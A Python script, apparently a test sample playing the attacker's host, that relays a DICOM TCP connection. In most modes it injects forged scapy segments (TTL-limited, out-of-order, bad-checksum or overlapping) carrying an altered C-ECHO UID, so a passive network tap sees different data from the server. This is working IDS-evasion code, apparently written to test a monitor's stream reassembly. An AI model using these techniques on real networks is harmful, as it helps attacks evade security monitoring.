#!/usr/bin/env python3
"""A TCP relay that puts a decoy before one segment it forwards: the attacker's host of
scripts/samples/hostile-tcp/make-ttl-decoy.

Usage: ttl_relay.py LISTEN_PORT SERVER_HOST SERVER_PORT IFACE MODE
  MODE plain: forward both directions unchanged.
  MODE decoy: before forwarding the first P-DATA-TF PDU (type 0x04, PS3.8 §9.3.5) the client
              sends, inject (scapy, raw IP on IFACE) a copy of it in which the C-ECHO's Affected
              SOP Class UID 1.2.840.10008.1.1 reads 1.2.840.10008.1.9, at the connection's own
              next sequence number and acknowledgment, with the TCP timestamps of the relay's last
              segment, a correct checksum and IP TTL 1: the router between this host and the
              server drops it (ICMP time exceeded) after the tap saw it. Then forward the real PDU.
              The sequence numbers are learnt by sniffing the connection on IFACE.
  MODE ahead: the same decoy copy with an ordinary TTL, but only its part from 4 bytes before
              the UID to the PDU's end, at its own sequence number within the PDU: out of order,
              ahead of the PDU's first bytes. The server's stack queues it; the real PDU then
              comes in order over it, and the stack takes that whole and drops the queued copy.
  MODE badsum: the `decoy` copy (the whole PDU, at the connection's next sequence number) with an
              ordinary TTL but a wrong TCP checksum: the server's stack drops it.
  MODE cover: the `ahead` decoy, then (raw) the real bytes from 2 bytes before the decoy's start
              to the PDU's end, still out of order: a segment that starts before the queued
              decoy and covers it, which the stack queues in its place. Then the relay's socket
              sends the PDU's first bytes (up to that segment) and, once those are acknowledged
              past them, the rest again (a retransmission of bytes the server has).

One connection, then exit. TCP_NODELAY on the server side, so each send is its own segment.
"""
import socket
import sys
import threading
import time

from scapy.all import IP, TCP, AsyncSniffer, Raw, send  # noqa: E402

REAL_UID = b"1.2.840.10008.1.1\x00"
DECOY_UID = b"1.2.840.10008.1.9\x00"


def main():
    port, host, sport, iface, mode = int(sys.argv[1]), sys.argv[2], int(sys.argv[3]), sys.argv[4], sys.argv[5]
    lsock = socket.socket()
    lsock.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    lsock.bind(("127.0.0.1", port))
    lsock.listen(1)
    last = {}  # "out": last segment to the server, "in": last segment from it

    def seen(p):
        if TCP in p and p[IP].dst == host and p[TCP].dport == sport:
            last["out"] = p
        elif TCP in p and p[IP].src == host and p[TCP].sport == sport:
            last["in"] = p

    sniffer = AsyncSniffer(iface=iface, filter=f"tcp and host {host} and port {sport}", prn=seen, store=False)
    sniffer.start()
    time.sleep(0.5)
    print("listening", flush=True)
    cli, _ = lsock.accept()
    srv = socket.create_connection((host, sport))
    srv.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def back():
        while data := srv.recv(65536):
            cli.sendall(data)
        cli.shutdown(socket.SHUT_WR)

    t = threading.Thread(target=back)
    t.start()
    buf = b""
    injected = mode not in ("decoy", "ahead", "cover", "badsum")
    while data := cli.recv(65536):
        if injected:
            srv.sendall(data)
            continue
        buf += data
        while len(buf) >= 6:
            n = 6 + int.from_bytes(buf[2:6], "big")
            if len(buf) < n:
                break
            pdu, buf = buf[:n], buf[n:]
            if not injected and pdu[0] == 0x04 and REAL_UID in pdu:
                time.sleep(0.3)  # the sniffer has seen the last segments both ways
                out, inc = last["out"], last["in"]
                seq = out[TCP].seq + len(out[TCP].payload) + (1 if "S" in str(out[TCP].flags) else 0)
                ack = inc[TCP].seq + len(inc[TCP].payload) + (1 if "S" in str(inc[TCP].flags) else 0)
                opts = [(k, v) for k, v in out[TCP].options if k in ("NOP", "Timestamp")]
                fake = pdu.replace(REAL_UID, DECOY_UID)
                k, ttl = {"decoy": (0, 1), "badsum": (0, out[IP].ttl)}.get(
                    mode, (fake.index(DECOY_UID) - 4, out[IP].ttl))

                def raw(at, payload, ttl=ttl):
                    return IP(src=out[IP].src, dst=host, ttl=ttl) / TCP(
                        sport=out[TCP].sport, dport=sport, seq=(seq + at) % 2**32, ack=ack,
                        flags="PA", window=out[TCP].window, options=opts) / Raw(payload)

                first = raw(k, fake[k:])
                if mode == "badsum":
                    good = IP(bytes(first))[TCP].chksum
                    first[TCP].chksum = good ^ 0x00FF
                send(first, iface=iface, verbose=False)
                time.sleep(0.05)
                if mode == "cover":
                    send(raw(k - 2, pdu[k - 2:]), iface=iface, verbose=False)
                    time.sleep(0.05)
                    srv.sendall(pdu[:k - 2])
                    time.sleep(0.2)
                    srv.sendall(pdu[k - 2:])
                else:
                    srv.sendall(pdu)
                injected = True
            else:
                srv.sendall(pdu)
        if injected and buf:
            srv.sendall(buf)
            buf = b""
    srv.shutdown(socket.SHUT_WR)
    t.join()
    time.sleep(0.3)
    sniffer.stop()
    print("injected" if injected and mode != "plain" else "plain", flush=True)


if __name__ == "__main__":
    main()
